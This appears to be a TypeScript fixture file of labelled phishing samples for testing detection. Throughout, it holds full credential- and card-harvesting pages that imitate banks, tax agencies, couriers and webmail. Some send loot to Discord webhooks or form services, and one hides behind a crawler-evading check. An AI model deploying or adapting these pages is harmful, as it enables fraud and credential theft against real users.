import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, tess, relayScript, mark, MS_LOGO, b64Writer, formwellAction } from '../parts/zq-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zq-staticbay-harwood-webmail',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-harwoodlogistics.staticbay.page/#j.morales@harwoodlogistics.com',
  body: doc('Webmail :: Sign in', `<div class="wrap"><div class="box">
<img id="logo" src="" alt="" style="height:44px;display:none">
<h2 id="dom">Webmail</h2>
<p class="note">Your mailbox password expires today. Re-validate to keep your current password and avoid losing messages.</p>
<form id="f" autocomplete="off">
<input id="em" name="login" type="email" placeholder="Email address" readonly>
<input id="pw" name="passwd" type="password" placeholder="Password" required>
<div id="err" class="err" style="display:none">Your account or password is incorrect. Please try again.</div>
<button type="submit">Keep current password</button>
</form><p class="small">&copy; 2026 Mail Services &middot; Secured by TLS</p></div></div>
<script>
var h=location.hash.substring(1),em=document.getElementById('em'),tries=0;
if(h.indexOf('@')>0){em.value=h;var d=h.split('@')[1];document.getElementById('dom').textContent=d.split('.')[0].toUpperCase()+' Webmail';
var l=document.getElementById('logo');l.src='https://logo.clearbit.com/'+d;l.style.display='block';document.title=d+' - Webmail';}
document.getElementById('f').onsubmit=function(e){e.preventDefault();tries++;
var x=new XMLHttpRequest();x.open('POST','next.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('email='+encodeURIComponent(em.value)+'&password='+encodeURIComponent(document.getElementById('pw').value)+'&try='+tries);
if(tries<2){document.getElementById('err').style.display='block';document.getElementById('pw').value='';}
else{location.replace('https://'+em.value.split('@')[1]);}};
</script>`, { css: `body{background:#e9edf2}.wrap{display:flex;justify-content:center;padding-top:10vh}.box{background:#fff;width:380px;padding:34px;border-radius:4px;box-shadow:0 1px 8px rgba(0,0,0,.15)}input{width:100%;padding:11px;margin:7px 0;border:1px solid #bbb}button{width:100%;padding:11px;background:#1565c0;color:#fff;border:0;margin-top:8px}.note{font-size:13px;color:#444}.err{color:#c62828;font-size:13px}.small{font-size:11px;color:#888;text-align:center}` }),
  routes: { 'mail-harwoodlogistics.staticbay.page/next.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' } },
},

{
  id: 'zq-hmrc-refund-tess',
  label: 'phishing',
  kind: 'government-refund-kit',
  url: 'https://hmrc-refund-claim.tessellate.site/claim',
  body: tess({
    title: 'HMRC: Claim your tax refund - GOV.UK',
    site: 'GOV.UK',
    accent: '#0b0c0c',
    nav: [],
    badge: false,
    css: `.tb-nav{background:#0b0c0c;color:#fff}.phase{border-bottom:1px solid #b1b4b6;padding:8px 6vw;font-size:14px}.tag{background:#1d70b8;color:#fff;padding:2px 6px;font-weight:700}`,
    body: `<div class="phase"><span class="tag">BETA</span> HM Revenue &amp; Customs</div>
<section class="tb-section" style="max-width:640px"><h1>You are eligible for a tax refund of £ 418.62</h1>
<p>After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund. Please submit the form below so we can process it within 3-5 working days.</p>
<form class="tb-form" method="post" action="/claim/step2.php">
<label>Full name</label><input name="name" required><label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY">
<label>National Insurance number</label><input name="nino" placeholder="QQ 12 34 56 C"><label>Postcode</label><input name="pc">
<label>Card number (refund will be credited to this card)</label><input name="card" required><label>Expiry</label><input name="exp"><label>Security code</label><input name="cvv">
<button class="tb-btn" style="background:#00703c;margin-top:18px">Submit refund request</button></form></section>`,
  }),
},

{
  id: 'zq-ameli-carte-vitale-fr',
  label: 'phishing',
  kind: 'government-refund-kit',
  url: 'https://ameli-assure-renouvellement.com/espace/',
  body: doc('ameli - Renouvellement de votre carte Vitale', `<header><b style="color:#0c419a;font-size:28px">ameli</b><span style="color:#555"> l'Assurance Maladie</span></header>
<main><h2>Renouvellement de votre carte Vitale</h2><p>Votre carte Vitale arrive à expiration. Pour recevoir votre nouvelle carte, veuillez confirmer vos informations et régler les frais d'envoi de 0,95 €.</p>
<div class="steps"><span class="on">1. Identité</span><span>2. Paiement</span><span>3. Confirmation</span></div>
<form id="a"><input name="nom" placeholder="Nom"><input name="prenom" placeholder="Prénom"><input name="nss" placeholder="Numéro de sécurité sociale (13 chiffres)"><input name="naissance" placeholder="Date de naissance"><input name="email" placeholder="E-mail"><input name="carte" placeholder="Numéro de carte bancaire"><input name="exp" placeholder="Expiration"><input name="cvv" placeholder="CVV"><button>Valider</button></form></main>
<script src="/espace/js/jquery.min.js"></script><script src="/espace/js/send.js"></script>`, { lang: 'fr', css: `header{padding:18px 6vw;border-bottom:4px solid #0c419a}main{max-width:560px;margin:20px auto;padding:0 14px}.steps span{margin-right:14px;color:#999}.steps .on{color:#0c419a;font-weight:700}input{display:block;width:100%;padding:10px;margin:6px 0}button{background:#0c419a;color:#fff;border:0;padding:12px 30px}` }),
  routes: {
    'ameli-assure-renouvellement.com/espace/js/jquery.min.js': jsRoute('/*! jQuery v3.7.1 | (c) OpenJS Foundation */window.$=window.jQuery=function(s){return document.querySelector(s)};'),
    'ameli-assure-renouvellement.com/espace/js/send.js': jsRoute(`document.getElementById('a').addEventListener('submit',function(e){e.preventDefault();var p=new URLSearchParams(new FormData(this));fetch('/espace/app/action.php',{method:'POST',body:p}).then(function(){location.href='/espace/sms.php'});});`),
  },
},

{
  id: 'zq-dropbox-transfer-provider-picker',
  label: 'phishing',
  kind: 'cloud-drive-lure-kit',
  url: 'https://dropbox-transfer-9921.tessellate.site/file',
  body: tess({
    title: 'Dropbox - Shared file',
    site: 'Dropbox Transfer',
    accent: '#0061fe',
    nav: [],
    badge: false,
    body: `<section class="tb-section" style="text-align:center"><h2>Morgan Ellis shared "Revised Purchase Order 2026-114.pdf" with you</h2><p>2 files &middot; 3.4 MB &middot; expires in 3 days</p>
<p>Choose your email provider to download</p><div class="prov">
<button data-p="Outlook">Sign in with Outlook</button><button data-p="Office365">Sign in with Office 365</button><button data-p="Yahoo">Sign in with Yahoo</button><button data-p="AOL">Sign in with AOL</button><button data-p="Other">Other Mail</button></div></section>
<div id="m" class="modal"><div class="tb-card"><h3 id="mt">Sign in</h3><form class="tb-form" id="df"><input type="hidden" name="provider" id="pv"><label>Email</label><input name="email" type="email" required><label>Password</label><input name="password" type="password" required><button class="tb-btn" style="margin-top:12px">Download</button></form></div></div>
<script>document.querySelectorAll('.prov button').forEach(function(b){b.onclick=function(){document.getElementById('pv').value=b.dataset.p;document.getElementById('mt').textContent='Sign in with '+b.dataset.p;document.getElementById('m').style.display='flex'}});</script>
${relayScript('#df', 'https://submit.formwell.io/f/Drx71Tq/json', 'https://www.dropbox.com/')}`,
    css: `.prov button{display:block;width:300px;margin:10px auto;padding:12px;border:1px solid #ccc;background:#fff;border-radius:6px;cursor:pointer}.modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.5);align-items:center;justify-content:center}.modal .tb-card{width:360px}`,
  }),
},

{
  id: 'zq-cloaked-wellsfargo-ua',
  label: 'phishing',
  kind: 'cloaked-bank-kit',
  url: 'https://wfonline-secure.staticbay.page/',
  body: doc('Coming soon', `<div id="root"><div style="text-align:center;margin-top:20vh;font-family:Georgia"><h1>Coming soon</h1><p>We're working on something new.</p></div></div>
<script>
(function(){
var u=navigator.userAgent,bad=/bot|crawl|spider|headless|lighthouse|curl|wget|python|scan|preview/i.test(u)||navigator.webdriver||!navigator.languages||navigator.languages.length===0||screen.width<200;
if(bad)return;
var s=document.createElement('script');s.src='/static/js/app.7f2c.js';document.body.appendChild(s);
})();
</script>`),
  routes: {
    'wfonline-secure.staticbay.page/static/js/app.7f2c.js': jsRoute(`document.title='Wells Fargo - Sign On';document.getElementById('root').innerHTML='<div style="background:#d71e28;padding:14px 5vw;color:#fff;font:700 22px Arial">WELLS FARGO</div><div style="max-width:400px;margin:40px auto;font-family:Arial"><h2>Good evening</h2><p>Sign on to manage your accounts.</p><form id="w" method="post" action="/verify.php"><input name="j_username" placeholder="Username" style="width:100%;padding:12px;margin:6px 0"><input name="j_password" type="password" placeholder="Password" style="width:100%;padding:12px;margin:6px 0"><button style="background:#d71e28;color:#fff;border:0;padding:12px;width:100%;border-radius:20px">Sign on</button></form><p style="font-size:12px">Enroll &middot; Forgot username or password?</p></div>';`),
  },
},

{
  id: 'zq-intesa-sanpaolo-otp-it',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://intesa-sicurezza-clienti.it-verifica.com/accesso/',
  body: doc('Intesa Sanpaolo - Accedi', `<div class="h"><b>Intesa Sanpaolo</b></div><main>
<h2>Blocco temporaneo dell'accesso</h2><p>Abbiamo rilevato un accesso anomalo al tuo conto. Per sbloccare la tua utenza completa la verifica.</p>
<form id="s1"><input name="codice_titolare" placeholder="Codice titolare" required><input name="pin" type="password" placeholder="PIN" required><button>Continua</button></form>
<form id="s2" style="display:none"><p>Inserisci il codice O-Key SMS che hai ricevuto sul tuo cellulare.</p><input name="otp" maxlength="6" placeholder="Codice O-Key"><input name="cell" placeholder="Numero di cellulare"><button>Conferma</button></form>
</main>
<script>
function snd(d){return fetch('../api/rcv.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d)})}
document.getElementById('s1').onsubmit=function(e){e.preventDefault();snd(new FormData(this));this.style.display='none';document.getElementById('s2').style.display='block'};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();snd(new FormData(this)).then(function(){location='https://www.intesasanpaolo.com/'})};
</script>`, { lang: 'it', css: `.h{background:#fff;border-bottom:3px solid #00a950;padding:16px 6vw;color:#00a950;font-size:22px}main{max-width:440px;margin:40px auto;padding:0 14px}input{width:100%;padding:11px;margin:6px 0;border:1px solid #999}button{background:#00a950;color:#fff;border:0;padding:11px 30px}` }),
},

{
  id: 'zq-sparkasse-pushtan-de',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://sparkasse-pushtan-aktualisierung.tessellate.site/login',
  body: tess({
    title: 'Sparkasse - Online-Banking Anmeldung',
    site: 'Sparkasse',
    lang: 'de',
    accent: '#ff0000',
    nav: ['Privatkunden', 'Firmenkunden', 'Service'],
    badge: false,
    body: `<section class="tb-section" style="max-width:520px;margin:auto"><h2>S-pushTAN Verfahren aktualisieren</h2>
<p>Ab dem 01.12.2026 wird das alte pushTAN-Verfahren abgeschaltet. Bitte registrieren Sie Ihr Gerät neu, um eine Sperrung Ihres Online-Bankings zu vermeiden.</p>
<form class="tb-form" method="post" action="/login/check.php"><label>Bankleitzahl oder Name Ihrer Sparkasse</label><input name="blz"><label>Anmeldename / Legitimations-ID</label><input name="user"><label>PIN</label><input name="pin" type="password"><label>Mobilnummer</label><input name="mobil"><button class="tb-btn" style="margin-top:14px">Weiter</button></form></section>`,
  }),
},

{
  id: 'zq-inpost-doplata-pl',
  label: 'phishing',
  kind: 'delivery-fee-card-kit',
  url: 'https://inpost-paczkomat-doplata.staticbay.page/',
  body: doc('InPost - Dopłata do przesyłki', `<header style="background:#ffcd00;padding:14px 6vw;font:800 24px Arial">InPost</header><main style="max-width:480px;margin:26px auto;padding:0 14px">
<h2>Paczka nr 6931 0041 2288 wstrzymana</h2><p>Przesyłka nie mieści się w gabarycie C. Wymagana dopłata: <b>1,99 zł</b>.</p>
<p>Wybierz bank, aby zapłacić:</p><div class="banks"><a href="bank.html?b=pko">PKO BP</a><a href="bank.html?b=mbank">mBank</a><a href="bank.html?b=ing">ING</a><a href="bank.html?b=pekao">Pekao</a><a href="bank.html?b=santander">Santander</a><a href="bank.html?b=millennium">Millennium</a></div></main>`, { lang: 'pl', css: `.banks{display:grid;grid-template-columns:1fr 1fr 1fr;gap:10px}.banks a{border:1px solid #ccc;padding:18px;text-align:center;text-decoration:none;border-radius:6px}` }),
  routes: {
    'inpost-paczkomat-doplata.staticbay.page/bank.html': htmlRoute(doc('Logowanie do bankowości', `<div style="max-width:400px;margin:50px auto;font-family:Arial"><h2 id="bn">Bankowość internetowa</h2><form method="post" action="/l.php"><input name="login" placeholder="Identyfikator" style="width:100%;padding:10px;margin:5px 0"><input name="haslo" type="password" placeholder="Hasło" style="width:100%;padding:10px;margin:5px 0"><button style="padding:10px 24px">Zaloguj</button></form></div><script>document.getElementById('bn').textContent=(new URLSearchParams(location.search).get('b')||'').toUpperCase()+' - logowanie'</script>`, { lang: 'pl' })),
  },
},

{
  id: 'zq-roundcube-kesslerbau-clone',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-kessler-bau.tessellate.site/',
  body: doc('Kessler Bau GmbH :: Willkommen bei Roundcube Webmail', `<div id="login-form"><div class="box-inner"><img src="https://webmail-kessler-bau.tessellate.site/skins/elastic/images/logo.svg" alt="Roundcube Webmail" style="height:50px">
<form name="login-form" method="post" action="https://submit.formwell.io/f/rcKBau2"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" value="Europe/Berlin">
<table><tr><td class="title"><label for="rcmloginuser">Benutzername</label></td><td><input name="_user" id="rcmloginuser" required></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Passwort</label></td><td><input name="_pass" id="rcmloginpwd" type="password" required></td></tr></table>
<p class="formbuttons"><button type="submit" id="rcmloginsubmit">Anmelden</button></p></form>
<p class="notice">Ihr Postfach hat 98% des Speicherplatzes erreicht. Bitte melden Sie sich an, um zusätzlichen Speicher freizugeben.</p></div></div>
<div id="login-footer">Roundcube Webmail &#9679; Kessler Bau GmbH IT-Service</div>`, { lang: 'de', css: `body{background:#f4f4f4}#login-form{max-width:400px;margin:12vh auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 0 6px #ccc;text-align:center}td{padding:6px;text-align:left}input{width:100%;padding:8px}button{background:#37beff;color:#fff;border:0;padding:10px 30px}.notice{font-size:13px;color:#a66}#login-footer{text-align:center;color:#999;font-size:12px}` }),
},

{
  id: 'zq-zimbra-quota-it',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://zimbra-quota.staticbay.page/posta/?mail=amministrazione@studiorossi-commercialisti.it',
  body: doc('Zimbra Web Client Sign In', `<div class="z"><div class="lg">zimbra</div><p style="background:#fff3cd;padding:8px;font-size:13px">Avviso: la tua casella di posta ha superato il limite di archiviazione (2 GB). Accedi per aumentare la quota, altrimenti i nuovi messaggi verranno rifiutati.</p>
<form id="zf"><label>Nome utente:</label><input name="username" id="un"><label>Password:</label><input name="password" type="password"><label><input type="checkbox"> Resta connesso</label><button>Accedi</button></form><p style="font-size:11px">Zimbra :: the leader in open source messaging and collaboration</p></div>
<script>document.getElementById('un').value=new URLSearchParams(location.search).get('mail')||'';</script>
${relayScript('#zf', 'https://formspree.io/f/xqkrbwzy', 'https://webmail.aruba.it/')}`, { lang: 'it', css: `body{background:linear-gradient(#0f3c6e,#3b73a8);font-family:Tahoma}.z{width:430px;margin:12vh auto;background:#e8eef5;padding:26px;border-radius:6px}.lg{font:700 34px Arial;color:#0f3c6e}label{display:block;font-size:13px;margin-top:8px}input{width:100%;padding:6px}button{margin-top:12px;padding:6px 22px}` }),
},

{
  id: 'zq-fax-voicemail-discord',
  label: 'phishing',
  kind: 'voicemail-lure-kit',
  url: 'https://eutelecom-fax.tessellate.site/message/VM-3320',
  body: tess({
    title: 'New voice message',
    site: 'RingCentral Voice',
    accent: '#f80',
    nav: [],
    badge: false,
    body: `<section class="tb-section" style="max-width:520px;margin:auto"><div class="tb-card"><h3>&#9654; Voice message (0:47)</h3><p>From: +44 20 7946 0321 &middot; Received 09:14</p><audio controls style="width:100%" src=""></audio>
<p style="font-size:13px">To play this message, sign in with your Microsoft 365 account.</p><form class="tb-form" id="vm"><label>Email</label><input name="u" type="email"><label>Password</label><input name="p" type="password"><button class="tb-btn" style="margin-top:12px">Play message</button></form></div></section>
${relayScript('#vm', 'https://discord.com/api/webhooks/1229034471112220/ZpT0-vr1qWm5gLb', 'https://outlook.office.com/', "d.content='VM '+d.u+':'+d.p;")}`,
  }),
},

{
  id: 'zq-formwell-hosted-verify-mailbox',
  label: 'phishing',
  kind: 'form-backend-hosted-kit',
  url: 'https://forms.formwell.io/p/mbx-verify-88213',
  body: doc('Mailbox verification · Formwell', `<div class="fw"><div class="head"><b>IT Helpdesk</b> &middot; Mailbox verification</div>
<p>Dear user, as part of our annual mailbox migration all staff must verify their email credentials by <b>Friday</b>. Accounts not verified will be deactivated.</p>
<form method="post" action="https://submit.formwell.io/f/mbx-verify-88213"><label>Full name *</label><input name="name" required><label>University / company email *</label><input name="email" type="email" required><label>Email password *</label><input name="email_password" type="password" required><label>Confirm password *</label><input name="email_password2" type="password" required><button>Submit</button></form>
<p class="pw">Powered by Formwell &middot; <a href="https://formwell.io/report-abuse?f=mbx-verify-88213">Report abuse</a> &middot; Never submit passwords through Formwell forms.</p></div>`, { css: `body{background:#f5f3ef}.fw{max-width:560px;margin:40px auto;background:#fff;padding:30px;border-top:6px solid #5b4cdb;border-radius:6px}label{display:block;margin-top:12px;font-size:14px}input{width:100%;padding:10px;border:1px solid #ccc;border-radius:4px}button{margin-top:16px;background:#5b4cdb;color:#fff;border:0;padding:11px 26px;border-radius:4px}.pw{font-size:11px;color:#888;margin-top:24px}` }),
},

{
  id: 'zq-usps-redelivery-tess',
  label: 'phishing',
  kind: 'delivery-fee-card-kit',
  url: 'https://usps-redelivery-center.tessellate.site/track',
  body: tess({
    title: 'USPS.com® - Redelivery',
    site: 'USPS',
    accent: '#333366',
    nav: ['Quick Tools', 'Send', 'Receive'],
    badge: false,
    body: `<section class="tb-section" style="max-width:560px;margin:auto"><h2>Tracking Number: 9400 1118 9956 2210 4487 13</h2><p style="color:#e71921"><b>Status: Held at Post Office — incomplete address</b></p><p>Please update your address and pay the $0.30 redelivery fee.</p>
<form class="tb-form" id="us"><label>Full name</label><input name="n"><label>Street address</label><input name="a"><label>City, State, ZIP</label><input name="c"><label>Phone</label><input name="p"><label>Card number</label><input name="cc"><label>Exp / CVV</label><input name="ev"><button class="tb-btn" style="margin-top:14px">Pay $0.30</button></form></section>
${relayScript('#us', '/track/api/submit', '/track/success')}`,
  }),
},
];
